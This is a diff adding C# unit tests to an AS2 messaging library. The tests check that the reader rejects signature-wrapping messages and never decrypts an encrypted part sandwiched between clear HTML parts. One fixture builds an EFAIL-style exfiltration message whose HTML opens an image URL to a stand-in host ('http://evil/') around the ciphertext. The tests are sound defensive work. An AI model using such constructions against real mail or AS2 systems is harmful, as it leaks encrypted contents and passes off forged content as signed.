@@ -115,6 +115,50 @@ public sealed class SignatureWrappingTests
     }
 
     [Fact]
+    [Requirement("AS2-SEC-015")]
+    public async Task A_signature_that_brings_its_own_content_signs_nothing_beside_it()
+    {
+        var own = TestMessage.Entity("Content-Type: application/pkcs7-signature; name=smime.p7s", TestMessage.Signature(TestMessage.V1, detached: false));
+        Reading.Refused(await TestMessage.Http(TestMessage.Multipart("sha-256", Evil, own)).ReadAsync(MustBeSigned), As2Failure.DigestMismatch);
+        Reading.Refused(await TestMessage.Http(TestMessage.EncryptedGcm(TestMessage.Multipart("sha-256", Evil, own))).ReadAsync(MustBeSigned), As2Failure.DigestMismatch);
+    }
+
+    [Fact]
+    [Requirement("AS2-SEC-015")]
+    public async Task A_signature_of_the_multipart_around_is_none_of_the_part_in_it()
+    {
+        // What was signed is V1; it travels as a part of a multipart that is signed by nobody, with V1's signature at its end.
+        var inside = TestMessage.Entity("Content-Type: multipart/mixed; boundary=in", [.. "--in\r\n"u8, .. TestMessage.V1, .. "\r\n--in\r\n"u8, .. Evil, .. "\r\n--in--\r\n"u8]);
+        Reading.Refused(await TestMessage.Http(TestMessage.Multipart("sha-256", inside, Signature)).ReadAsync(MustBeSigned), As2Failure.DigestMismatch);
+    }
+
+    [Theory]
+    [InlineData("multipart/mixed")]
+    [InlineData("multipart/related")]
+    [InlineData("multipart/alternative")]
+    [Requirement("AS2-SEC-003", "AS2-SEC-015")]
+    public async Task An_encrypted_part_among_clear_ones_is_a_document_and_is_never_decrypted(string type)
+    {
+        // EFAIL's direct exfiltration: clear text of a stranger around the ciphertext of somebody's message, so that the reader joins them.
+        var secret = TestMessage.Encrypted(TestMessage.Signed(TestMessage.Entity("Content-Type: text/plain", "SECRET"u8.ToArray())));
+        var trap = TestMessage.Entity($"Content-Type: {type}; boundary=trap",
+        [
+            .. "--trap\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil/\r\n--trap\r\n"u8, .. secret,
+            .. "\r\n--trap\r\nContent-Type: text/html\r\n\r\n\">\r\n--trap--\r\n"u8,
+        ]);
+        Reading.Refused(await TestMessage.Http(trap).ReadAsync(MustBeSigned), As2Failure.SignatureMissing);
+
+        await using var open = await TestMessage.Http(trap).ReadAsync();
+        Assert.Equal((3, false, false), (open.Payloads.Count, open.IsEncrypted, open.IsSigned));
+        Assert.Equal(TestMessage.Split(secret).Body, await open.Payloads[1].BytesAsync());
+        foreach (var payload in open.Payloads)
+        {
+            Assert.False(payload.IsAuthenticated);
+            Assert.DoesNotContain("SECRET", Encoding.Latin1.GetString(await payload.BytesAsync()), StringComparison.Ordinal);
+        }
+    }
+
+    [Fact]
     public async Task Tools_see_what_is_there_and_that_nothing_vouches_for_it()
     {
         var look = Reading.Open with { SignerCertificates = [], TakeUnverified = true, Policy = CmsPolicy.ReadEverything };
